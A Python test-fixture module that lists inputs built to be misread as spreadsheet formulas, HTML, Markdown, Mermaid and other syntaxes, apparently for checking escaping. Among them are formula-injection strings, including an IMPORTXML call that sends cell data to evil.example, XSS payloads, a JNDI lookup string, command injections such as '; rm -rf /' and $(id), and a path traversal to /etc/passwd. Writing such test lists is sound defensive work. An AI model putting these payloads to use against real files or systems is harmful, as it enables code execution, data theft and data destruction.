"""Texts made to be taken for something else: formulas, tags, commands, signs of one syntax or another."""

_FORMULAS = """
=1+1
=HYPERLINK("http://evil.example","Click")
=cmd|'/C calc'!A0
+1+1
-1+1
-2+3+cmd|' /C calc'!D2
@SUM(1+9)*cmd|' /C calc'!A0
=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")
=WEBSERVICE("http://evil.example")
＝1+1
＋1
－1
＠SUM(1)
a;=1+1
a;"=1+1
a,=1+1
",=1+1
"=1+1"
'=1+1
"
""
",",
a","=1+1","b
;;;;
#N/A
#REF!
TRUE
1e5
00123
1/2
2026-11-23
_x0041_
_x000D_
_x005F_x0041_
"""

_TAGS = """
<script>alert(1)</script>
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<!-- a comment -->
-->
<![CDATA[ x ]]>
]]>
<?xml version="1.0"?>
<!DOCTYPE html>
<br>
</td></tr></table>
</div>
<details open><summary>x</summary>
<https://evil.example>
<a@evil.example>
&lt;b&gt;
&amp;
&#60;b&#62;
&nbsp;
& &;
a < b > c
"><b>
' onmouseover='alert(1)
javascript:alert(1)
data:text/html,<b>x</b>
"""

_MARKDOWN = """
# heading
###### heading
#
C #
#1
#123 fixed
owner/repo#123
GH-123
@github
@org/team
hello@example.com
mailto:a@b.example
https://evil.example/x?a=1&b=2
http://evil.example
www.evil.example
ftp://evil.example
:smile: :+1: :tada:
**bold** *it* __b__ _i_ ~~s~~
***
---
___
===
`code` ``code`` ```
```mermaid
~~~
> quote
- item
+ item
* item
1. item
1) item
- [x] done
[link](javascript:alert(1))
![image](https://evil.example/x.png)
[ref]: https://evil.example
[^1]
[^1]: note
[[wiki]]
[TOC]
| a | b |
|
\\|
a \\| b \\\\| c
\\
\\\\
a\\
\\*not\\*
$x$ and $$y$$
costs $5 or $6
{{ site.title }} {% raw %}
{: .class }
!!! note
: definition
*[HTML]: x
==mark== ^sup^
snake_case_name *
"""

_MERMAID = """
journey
Journey home
title deed
section two
accTitle: x
accDescr { x
%% comment
%%{init: {"theme": "dark"}}%%
50%% off
100%
a: b: c
a; b
a # b
#35;
a, b, c
end
"""

_OTHERS = """
../../etc/passwd
C:\\Windows
${jndi:ldap://evil.example/x}
$(id)
`id`
; rm -rf /
%s %n %x
{0} {name} {{}}
null
~
yes
[a, b]
{a: b}
!!python/object:x
&anchor *alias
'single' "double"
'''
emoji 👩‍👩‍👧 👍🏽 🇩🇪
日本語、改行。
العربية ثم English
עברית
mixed ‏rtl‎ marks
combining é ñ
ＦＵＬＬ width
\u00a0inner\u00a0space
"""

HOSTILE = [
    line
    for block in (_FORMULAS, _TAGS, _MARKDOWN, _MERMAID, _OTHERS)
    for line in block.split("\n")
    if line.strip()
] + [
    "two\nlines",
    "a\n\nb",
    "a\n=1+1",
    "a\n# b",
    "a\n- b\n- c",
    "a\n| b |",
    "a\n---",
    "a\r\nb",
    "a\rb",
    "a\tb",
    "a\t=1+1",
    "a\u2028b",
    "a\u2029b",
    "a    b",
    "trailing two  \nspaces",
    "x" * 3000,
    "word " * 600,
    "<" * 500,
    "|" * 500,
    "*" * 500,
    "[" * 500,
    "`" * 501,
]
